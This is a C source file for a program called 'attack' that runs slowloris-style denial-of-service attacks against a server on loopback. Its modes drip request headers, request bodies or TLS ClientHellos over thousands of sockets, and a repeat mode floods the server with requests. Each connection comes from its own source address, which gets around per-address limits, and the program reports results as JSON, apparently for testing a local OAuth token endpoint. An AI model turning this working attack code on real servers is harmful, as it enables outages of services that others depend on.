/* attack: ten thousand sockets that never finish, or requests that never end.
 *
 *     attack head|body|tls PORT SOCKETS
 *
 * One byte every BYTE_S seconds on each, in the head of a request, in its body, in the first TLS
 * message. What the server closes is opened again, each in its turn to send.
 *
 *     attack repeat PORT SOCKETS RATE FILE
 *
 * Requests of FILE in turn, RATE a second in all, the next on a connection when the one before was
 * answered or the connection ended. FILE: "LENGTH\n" and so many bytes, ...
 *
 * Each socket comes from an address of its own (127.64.0.0 and on), and from another when it comes
 * again. Says "ready" when all sockets have been opened once; ends at the end of its input with one
 * JSON object of what happened. One thread.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BYTE_S     3
#define OPEN_TURN  200 /* sockets opened in one turn of the loop */
#define ANSWER_MAX 2048

struct piece {
    const char *p;
    size_t n;
};

struct victim {
    int fd; /* -1: to be opened */
    bool waits;
    struct piece piece;
    size_t sent, n;
    char answer[ANSWER_MAX + 1];
};

static const char *kind;
static int port, epoll;
static struct victim *all;
static long sockets, rate, open_now, open_most;
static long opened, closed, refused, asked, statuses[6], bytes;
static uint32_t address;
static struct piece *requests;
static size_t requests_n, turn;

static const char slow_head[] = "POST /oauth2/token HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ";
static const char slow_body[] = "POST /oauth2/token HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: "
                                "application/x-www-form-urlencoded\r\nContent-Length: 4000\r\n\r\n"
                                "grant_type=";
/* A TLS record of 512 bytes, in it the beginning of a ClientHello. */
static const char slow_tls[] = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03";

static long now_ms(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static bool is_repeat(void)
{
    return strcmp(kind, "repeat") == 0;
}

static void let_go(struct victim *v)
{
    if (v->fd < 0)
        return;
    close(v->fd);
    v->fd = -1;
    v->waits = false;
    open_now--;
    closed++;
}

static void dial(struct victim *v)
{
    struct sockaddr_in from = {.sin_family = AF_INET}, to = {.sin_family = AF_INET};
    struct epoll_event e = {.events = EPOLLIN | EPOLLRDHUP, .data.ptr = v};
    struct linger now = {.l_onoff = 1}; /* no TIME_WAIT: there are many */
    int one = 1;

    v->fd = socket(AF_INET, SOCK_STREAM, 0);
    to.sin_port = htons((uint16_t)port);
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    from.sin_addr.s_addr = htonl(0x7f400000u + 1 + address++ % 0x3ffffeu);
    setsockopt(v->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
    setsockopt(v->fd, SOL_SOCKET, SO_LINGER, &now, sizeof now);
    fcntl(v->fd, F_SETFL, O_NONBLOCK);
    if (v->fd < 0 || bind(v->fd, (struct sockaddr *)&from, sizeof from) != 0 ||
        (connect(v->fd, (struct sockaddr *)&to, sizeof to) != 0 && errno != EINPROGRESS)) {
        if (v->fd >= 0)
            close(v->fd);
        v->fd = -1;
        refused++;
        return;
    }
    epoll_ctl(epoll, EPOLL_CTL_ADD, v->fd, &e);
    v->sent = v->n = 0;
    opened++;
    if (++open_now > open_most)
        open_most = open_now;
}

static void put(struct victim *v, const char *p, size_t n)
{
    ssize_t sent = send(v->fd, p, n, MSG_NOSIGNAL);

    if (sent > 0)
        bytes += sent;
    else if (errno != EAGAIN && errno != ENOTCONN)
        let_go(v);
}

static void begin_slow(struct victim *v)
{
    if (strcmp(kind, "head") == 0)
        put(v, slow_head, sizeof slow_head - 1);
    else if (strcmp(kind, "body") == 0)
        put(v, slow_body, sizeof slow_body - 1);
    else
        put(v, slow_tls, sizeof slow_tls - 1);
}

/* ---- requests ---- */

static void push(struct victim *v)
{
    ssize_t n;

    if (v->sent == v->piece.n)
        return;
    n = send(v->fd, v->piece.p + v->sent, v->piece.n - v->sent, MSG_NOSIGNAL);
    if (n > 0) {
        v->sent += (size_t)n;
        bytes += n;
    } else if (errno != EAGAIN && errno != ENOTCONN && v->n == 0) {
        let_go(v);
        return;
    }
    struct epoll_event e = {.events = EPOLLIN | EPOLLRDHUP, .data.ptr = v};
    if (v->sent < v->piece.n)
        e.events |= EPOLLOUT;
    epoll_ctl(epoll, EPOLL_CTL_MOD, v->fd, &e);
}

static void ask(struct victim *v)
{
    v->piece = requests[turn++ % requests_n];
    v->sent = v->n = 0;
    v->waits = true;
    asked++;
    push(v);
}

static void answered(struct victim *v)
{
    char *end, *length;
    bool last;

    v->answer[v->n] = '\0';
    if ((end = strstr(v->answer, "\r\n\r\n")) == NULL)
        return;
    length = strcasestr(v->answer, "content-length:");
    size_t head = (size_t)(end + 4 - v->answer), body = length ? strtoul(length + 15, NULL, 10) : 0;
    last = strcasestr(v->answer, "\r\nconnection: close") != NULL;
    if (v->n < head + body && head + body <= ANSWER_MAX)
        return;
    statuses[(v->answer[9] - '0') % 6]++;
    if (last || v->sent < v->piece.n || head + body > ANSWER_MAX)
        let_go(v);
    v->waits = false;
}

static void hear(struct victim *v, uint32_t events)
{
    char rest[4096];
    bool room = v->n < ANSWER_MAX;
    ssize_t n;

    if (v->fd < 0)
        return;
    if (events & EPOLLOUT)
        push(v);
    if (v->fd < 0 || !(events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP | EPOLLERR)))
        return;
    n = read(v->fd, room ? v->answer + v->n : rest, room ? ANSWER_MAX - v->n : sizeof rest);
    if (n < 0 && errno == EAGAIN)
        return;
    if (n <= 0) {
        let_go(v);
        return;
    }
    v->n += room ? (size_t)n : 0;
    if (is_repeat() && v->waits)
        answered(v);
}

static void load(const char *file)
{
    FILE *f = fopen(file, "r");
    size_t room = 0, n;

    while (f != NULL && fscanf(f, "%zu", &n) == 1 && fgetc(f) == '\n') {
        char *p = malloc(n);
        if (p == NULL || fread(p, 1, n, f) != n)
            exit(2);
        if (requests_n == room)
            requests = realloc(requests, (room = room * 2 + 64) * sizeof *requests);
        requests[requests_n++] = (struct piece){p, n};
    }
    if (requests_n == 0) {
        fprintf(stderr, "attack: %s has no requests\n", file);
        exit(2);
    }
}

/* ---- the loop ---- */

/* Those that are closed. A slow one that the server has closed comes again when its turn to send
 * comes (drip): at once it would be a flood of connections, not of slow ones. */
static void reopen(void)
{
    static long next;
    long turns = 0;

    if (!is_repeat() && opened >= sockets)
        return;
    for (long i = 0; i < sockets && turns < OPEN_TURN; i++, next++) {
        struct victim *v = &all[next % sockets];
        if (v->fd >= 0)
            continue;
        dial(v);
        turns++;
        if (v->fd >= 0 && !is_repeat())
            begin_slow(v);
    }
}

/* Those whose turn it is: so many in each millisecond that each has one in BYTE_S. */
static void drip(long elapsed_ms)
{
    static long next, owed;

    owed += sockets * elapsed_ms;
    for (; owed >= BYTE_S * 1000; owed -= BYTE_S * 1000) {
        struct victim *v = &all[next++ % sockets];
        if (v->fd >= 0) {
            put(v, "a", 1);
        } else if (opened >= sockets) {
            dial(v);
            if (v->fd >= 0)
                begin_slow(v);
        }
    }
}

static void pour(long elapsed_ms)
{
    static long next, owed;

    owed += rate * elapsed_ms;
    owed = owed > rate * 1000 ? rate * 1000 : owed;
    for (long i = 0; i < sockets && owed >= 1000; i++, next++) {
        struct victim *v = &all[next % sockets];
        if (v->fd < 0 || v->waits)
            continue;
        ask(v);
        owed -= 1000;
    }
}

static void report(void)
{
    printf("{\"opened\":%ld,\"closed\":%ld,\"not_connected\":%ld,\"open_most\":%ld,\"bytes\":%ld,"
           "\"asked\":%ld,\"s2xx\":%ld,\"s3xx\":%ld,\"s4xx\":%ld,\"s5xx\":%ld}\n",
           opened, closed, refused, open_most, bytes, asked, statuses[2], statuses[3], statuses[4],
           statuses[5]);
}

static bool input_ended(void)
{
    char c;

    return read(0, &c, 1) == 0;
}

static void run(void)
{
    struct epoll_event events[512];
    long last_ms = now_ms();
    bool ready = false;

    while (!input_ended()) {
        int n = epoll_wait(epoll, events, 512, 2);
        long ms = now_ms();
        for (int i = 0; i < n; i++)
            hear(events[i].data.ptr, events[i].events);
        reopen();
        if (is_repeat())
            pour(ms - last_ms);
        else
            drip(ms - last_ms);
        last_ms = ms;
        if (!ready && opened >= sockets) {
            ready = true;
            puts("ready");
            fflush(stdout);
        }
    }
}

int main(int argc, char **argv)
{
    struct rlimit files;

    if (argc < 4 || (strcmp(argv[1], "repeat") == 0 && argc != 6)) {
        fprintf(stderr,
                "usage: attack head|body|tls PORT SOCKETS, or repeat PORT SOCKETS RATE FILE\n");
        return 2;
    }
    kind = argv[1];
    port = (int)strtol(argv[2], NULL, 10);
    sockets = strtol(argv[3], NULL, 10);
    if (is_repeat()) {
        rate = strtol(argv[4], NULL, 10);
        load(argv[5]);
    }
    getrlimit(RLIMIT_NOFILE, &files);
    files.rlim_cur = files.rlim_max;
    setrlimit(RLIMIT_NOFILE, &files);
    signal(SIGPIPE, SIG_IGN);
    fcntl(0, F_SETFL, O_NONBLOCK);
    epoll = epoll_create1(0);
    all = calloc((size_t)sockets, sizeof *all);
    for (long i = 0; i < sockets; i++)
        all[i].fd = -1;
    address = (uint32_t)getpid() * 7919u;
    run();
    report();
    return 0;
}
